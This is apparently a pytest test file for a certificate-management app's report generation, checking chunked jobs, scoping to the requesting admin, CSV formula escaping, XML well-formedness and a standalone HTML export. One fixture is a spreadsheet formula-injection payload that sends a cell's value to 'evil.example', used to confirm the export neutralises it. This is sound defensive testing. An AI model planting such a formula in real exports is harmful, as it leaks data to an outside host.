"""Generated reports: chunk jobs by id range run by the worker, stitched in order, scoped to
the admin who asked, formula-safe CSV, well-formed XML, cancel, purge, audit."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from datetime import timedelta

import pytest
from defusedxml import ElementTree
from sqlalchemy import func, select

from app.extensions import db
from app.models import (
    AuditEvent,
    Certificate,
    CertOrigin,
    CertStatus,
    CertType,
    Job,
    Report,
    ReportChunk,
    Role,
)
from app.models.types import utcnow
from app.reports.export import BOM
from app.services.errors import Conflict, DomainError, NotFound
from app.services.reports import generation
from app.services.reports.catalog import Filters
from app.services.scope import SYSTEM
from tests.conftest import drain, login
from tests.factories import PASSWORD, make_admin, make_org

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def add_certificates(org, count: int, *, cert_type=CertType.SSL, prefix="host", days=30):
    now = utcnow()
    made = []
    for i in range(count):
        name = f"{prefix}{i}.{org.id}.example"
        cert = Certificate(
            fingerprint=hashlib.sha256(name.encode()).hexdigest(),
            der=name.encode(),
            cert_type=cert_type,
            origin=CertOrigin.IMPORTED,
            status=CertStatus.EXTERNAL,
            organization_id=org.id,
            serial_hex=f"{i:04x}",
            common_name=name,
            issuer_cn="Test Issuing CA",
            sans=[name, f"www.{name}"],
            not_before=now - timedelta(days=10),
            not_after=now + timedelta(days=days + i),
            key_type="EC-P256",
            signature_algorithm="ecdsa-with-SHA256",
        )
        db.session.add(cert)
        made.append(cert)
    db.session.commit()
    return made


def read(download) -> bytes:
    return b"".join(download.chunks)


def run(stub_worker, actor, report_type="ssl_certificates", fmt="csv", **kwargs):
    report = generation.start_report(actor=actor, report_type=report_type, fmt=fmt, **kwargs)
    db.session.commit()
    drain(stub_worker)
    report = db.session.get(Report, report.id)
    assert report.status == "done", report.message
    download = generation.download(actor=actor, report_id=report.id)
    db.session.commit()
    return report, read(download)


def test_a_large_report_is_built_in_chunks_and_stitched_in_order(app, stub_worker):
    mrao = make_admin()
    evil, plain = make_org(EVIL), make_org("Plain")
    add_certificates(evil, 12)
    add_certificates(plain, 13, prefix="web")
    report, data = run(stub_worker, mrao, chunk_rows=4, bom=True)
    assert report.chunks_total == 7 and report.chunks_done == list(range(7))
    assert (
        db.session.execute(select(func.count(Job.id)).where(Job.kind == "report_chunk")).scalar()
        == 7
    )
    assert data.startswith(BOM)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0][:3] == ["Id", "Common name", "Organization"]
    ids = [int(r[0]) for r in rows[1:]]
    assert ids == sorted(ids) and len(ids) == 25 == report.row_count
    orgs = {r[2] for r in rows[1:]}
    assert orgs == {"'" + EVIL, "Plain"}  # the formula arrives as text
    first = rows[1]
    assert first[13] == f"{first[1]} www.{first[1]}"
    # Running a chunk again (at-least-once delivery) changes nothing.
    job = db.session.execute(select(Job).where(Job.kind == "report_chunk")).scalars().first()
    job.status = "pending"
    job.attempts = 0
    db.session.commit()
    from app.services.platform import jobs

    jobs.execute(job.id, generation.run_chunk_job)
    db.session.expire_all()
    again = read(generation.download(actor=mrao, report_id=report.id))
    assert again == data
    assert db.session.get(Report, report.id).row_count == 25


def test_an_rao_report_holds_only_their_organization(app, stub_worker):
    make_admin()
    mine, theirs = make_org("Mine"), make_org("Theirs")
    add_certificates(mine, 3)
    add_certificates(theirs, 4, prefix="secret")
    rao = make_admin("rao", Role.RAO, org=mine)
    make_admin("other_rao", Role.RAO, org=theirs)
    _, data = run(stub_worker, rao, chunk_rows=2)
    text = data.decode()
    assert "Mine" in text and "Theirs" not in text and "secret" not in text
    assert len(list(csv.reader(io.StringIO(text)))) == 4
    _, admins = run(stub_worker, rao, "admins")
    assert "rao" in admins.decode() and "other_rao" not in admins.decode()
    assert "mrao" not in admins.decode()
    with pytest.raises(DomainError, match="No such organization"):
        generation.start_report(
            actor=rao,
            report_type="ssl_certificates",
            fmt="csv",
            filters=Filters(organization_id=theirs.id),
        )
    # Another admin's report cannot be read or even named.
    mrao_report = generation.start_report(actor=SYSTEM, report_type="admins", fmt="csv")
    db.session.commit()
    with pytest.raises(NotFound):
        generation.download(actor=rao, report_id=mrao_report.id)


def test_a_report_of_one_organization_is_split_over_its_own_ids(app, stub_worker):
    mrao = make_admin()
    large, small = make_org("Large"), make_org("Small")
    add_certificates(large, 12, prefix="large")
    add_certificates(small, 3, prefix="small")
    narrowed, data = run(stub_worker, mrao, chunk_rows=4, filters=Filters(organization_id=small.id))
    whole, _ = run(stub_worker, mrao, chunk_rows=4)
    # Twelve ids of Large before Small's three: its report is one chunk, not four.
    assert (narrowed.chunks_total, whole.chunks_total) == (1, 4)
    ids = sorted(
        db.session.execute(
            select(Certificate.id).where(Certificate.organization_id == small.id)
        ).scalars()
    )
    assert narrowed.ranges == [[ids[0], ids[-1]]]
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
    assert sorted(r[1] for r in rows) == [f"small{i}.{small.id}.example" for i in range(3)]


def test_filters_narrow_the_report(app, stub_worker):
    mrao = make_admin()
    org, other = make_org("Acme"), make_org("Other")
    add_certificates(org, 5, days=5)  # expire in 5..9 days
    add_certificates(other, 5, days=100, prefix="late")
    today = utcnow().date()
    _, data = run(
        stub_worker,
        mrao,
        filters=Filters(date_field="expires", date_from=today, date_to=today + timedelta(days=7)),
    )
    names = [r[1] for r in list(csv.reader(io.StringIO(data.decode())))[1:]]
    assert len(names) == 3 and all(n.startswith("host") for n in names)
    _, data = run(stub_worker, mrao, filters=Filters(organization_id=other.id, issuer="issuing"))
    assert len(data.decode().splitlines()) == 6
    with pytest.raises(DomainError, match="no status 'Bogus'"):
        generation.start_report(
            actor=mrao, report_type="ssl_certificates", fmt="csv", filters=Filters(status="Bogus")
        )
    with pytest.raises(DomainError, match="choose csv, xml or html"):
        generation.start_report(actor=mrao, report_type="ssl_certificates", fmt="xlsx")


@pytest.mark.parametrize(
    "report_type", ["ssl_certificates", "domains", "admins", "discovery_tasks", "discovery_results"]
)
def test_xml_reports_are_well_formed(app, stub_worker, report_type):
    mrao = make_admin()
    org = make_org("Bell & <Sons>")
    add_certificates(org, 3)[0].common_name = "bell\x07.example"  # discovered: any bytes
    db.session.commit()
    _, data = run(stub_worker, mrao, report_type, "xml", chunk_rows=1)
    root = ElementTree.fromstring(data)
    assert root.get("type") == report_type
    assert int(root.findtext("count")) == len(root.findall("rows/row"))
    if report_type == "ssl_certificates":
        rows = root.findall("rows/row")
        assert {r.findtext("organization") for r in rows} == {"Bell & <Sons>"}
        assert "bell.example" in {r.findtext("common_name") for r in rows}


def test_html_export_is_one_page_with_its_charts_inlined(app, stub_worker, client):
    mrao = make_admin()
    add_certificates(make_org("<b>Acme</b>"), 2)
    add_certificates(make_org("Other"), 3, prefix="web", days=400)
    report, data = run(stub_worker, mrao, fmt="html", chunk_rows=2)
    page = data.decode()
    assert page.startswith("<!DOCTYPE html>") and "&lt;b&gt;Acme&lt;/b&gt;" in page
    assert "5 rows." in page
    # Standalone: plotly.js inlined (the installed file, whole), nothing fetched from
    # elsewhere: no src= and no http(s) URL outside the inlined library.
    plotly_js = generation.plotly_source()
    assert plotly_js in page and "<script src" not in page
    outside = page.replace(plotly_js, "")
    assert "http://" not in outside and "https://" not in outside
    # The figures are the report's counts over every chunk; the organization's name is
    # data inside a script, so no "<" of it is left there.
    start = outside.index("var figures=") + len("var figures=")
    figures = json.loads(outside[start : outside.index(";figures.forEach")])
    titles = [f["layout"]["title"]["text"] for f in figures]
    assert titles[:3] == ["By status", "Expiring by month", "By organization"]
    by_org = figures[2]["data"][0]
    assert dict(zip(by_org["x"], by_org["y"], strict=True)) == {"Other": 3, "<b>Acme</b>": 2}
    assert "<b>Acme</b>" not in outside[start:]
    assert figures[2]["layout"]["yaxis"]["tickformat"] == ",d"  # whole numbers
    months = figures[1]["data"][0]
    assert sum(months["y"]) == 5 and months["x"] == sorted(months["x"])
    # The console's HTML view draws the same figures from data attributes, no inline script.
    login(client, "mrao", PASSWORD)
    view = client.get(f"/admin/reports/view/?id={report.id}").get_data(as_text=True)
    assert view.count("data-figure=") == len(figures)
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", view)


def test_cancel_stops_the_chunks_and_purge_deletes_expired_reports(app, stub_worker):
    mrao = make_admin()
    add_certificates(make_org("Acme"), 6)
    report = generation.start_report(
        actor=mrao, report_type="ssl_certificates", fmt="csv", chunk_rows=2
    )
    # Cancelled in the transaction that started it: the chunk messages go out on commit,
    # and the worker would otherwise race the cancel.
    generation.cancel_report(actor=mrao, report_id=report.id)
    db.session.commit()
    drain(stub_worker)
    assert db.session.get(Report, report.id).status == "cancelled"
    assert db.session.execute(select(func.count(ReportChunk.id))).scalar() == 0
    with pytest.raises(Conflict, match="cancelled, not ready"):
        generation.download(actor=mrao, report_id=report.id)
    with pytest.raises(Conflict, match="already ended"):
        generation.cancel_report(actor=mrao, report_id=report.id)
    run(stub_worker, mrao)
    actions = set(db.session.execute(select(AuditEvent.action)).scalars())
    assert {"report.run", "report.cancel", "report.download"} <= actions
    assert generation.purge_expired(now=utcnow()) == 0
    assert generation.purge_expired(now=utcnow() + timedelta(days=8)) == 2
    db.session.commit()
    assert db.session.execute(select(func.count(Report.id))).scalar() == 0
    assert db.session.execute(select(func.count(ReportChunk.id))).scalar() == 0


def test_the_cli_writes_a_scoped_report_to_a_file(app, tmp_path):
    make_admin()
    mine, theirs = make_org(EVIL), make_org("Theirs")
    add_certificates(mine, 3)
    add_certificates(theirs, 2, prefix="secret")
    make_admin("rao", Role.RAO, org=mine)
    runner = app.test_cli_runner()
    out = tmp_path / "ssl.csv"
    result = runner.invoke(
        args=[
            "report",
            "run",
            "ssl_certificates",
            "--format",
            "csv",
            "--out",
            str(out),
            "--bom",
            "--as",
            "rao",
            "--json",
        ]
    )
    assert result.exit_code == 0, result.output
    assert '"rows": 3' in result.output
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert len(rows) == 4 and {r[2] for r in rows[1:]} == {"'" + EVIL}
    xml_out = tmp_path / "all.xml"
    result = runner.invoke(
        args=[
            "report",
            "run",
            "ssl_certificates",
            "--format",
            "xml",
            "--out",
            str(xml_out),
            "--org",
            "Theirs",
            "--to",
            "2999-01-01",
        ]
    )
    assert result.exit_code == 0, result.output
    root = ElementTree.fromstring(xml_out.read_bytes())
    assert root.findtext("count") == "2"
    structure = tmp_path / "structure.xml"
    result = runner.invoke(
        args=["report", "run", "account_structure", "--format", "xml", "--out", str(structure)]
    )
    assert result.exit_code == 0, result.output
    assert b"Theirs" in structure.read_bytes()
    bad = runner.invoke(
        args=["report", "run", "ssl_certificates", "--out", str(out), "--status", "Bogus"]
    )
    assert bad.exit_code == 2 and "no status 'Bogus'" in bad.output
    bad = runner.invoke(args=["report", "run", "account_structure", "--out", str(out)])
    assert bad.exit_code == 2 and "XML only" in bad.output
    assert "discovery_results" in runner.invoke(args=["report", "types"]).output


def test_the_console_runs_follows_and_downloads_a_report(app, client, stub_worker):
    from tests.conftest import csrf_token, login
    from tests.factories import PASSWORD

    make_admin()
    mine, theirs = make_org(EVIL), make_org("Theirs")
    add_certificates(mine, 3)
    add_certificates(theirs, 2, prefix="secret")
    make_admin("rao", Role.RAO, org=mine)
    login(client, "rao", PASSWORD)
    page = client.get("/admin/reports/").get_data(as_text=True)
    assert "Theirs" not in page and "No reports yet." in page
    token = csrf_token(client, "/admin/reports/")
    form = {"csrf_token": token, "report_type": "ssl_certificates", "fmt": "csv", "bom": "y"}
    response = client.post("/admin/reports/", data=form)
    assert response.status_code == 302
    drain(stub_worker)
    report = db.session.execute(select(Report)).scalar_one()
    assert report.status == "done" and report.created_by_id is not None
    page = client.get("/admin/reports/").get_data(as_text=True)
    assert f'id="cw-report-{report.id}"' in page and 'data-status="done"' in page
    download = client.get(f"/admin/reports/download/?id={report.id}")
    assert download.mimetype == "text/csv"
    assert "attachment" in download.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(download.get_data().decode("utf-8-sig"), newline="")))
    assert len(rows) == 4 and {r[2] for r in rows[1:]} == {"'" + EVIL}
    # A filter naming another organization is refused on the form.
    refused = client.post("/admin/reports/", data={**form, "target": f"o:{theirs.id}"}).get_data(
        as_text=True
    )
    assert "No such organization." in refused
    # The Account Structure downloads at once, scoped.
    structure = client.get("/admin/reports/account-structure/")
    assert structure.mimetype == "application/xml" and b"Theirs" not in structure.get_data()
    # Another admin's report is not found.
    other = generation.start_report(actor=SYSTEM, report_type="admins", fmt="csv")
    db.session.commit()
    assert client.get(f"/admin/reports/download/?id={other.id}").status_code == 404
    cancel = client.post(
        "/admin/reports/cancel/",
        data={"csrf_token": token, "id": str(report.id)},
        follow_redirects=True,
    ).get_data(as_text=True)
    assert "has already ended (done)" in cancel
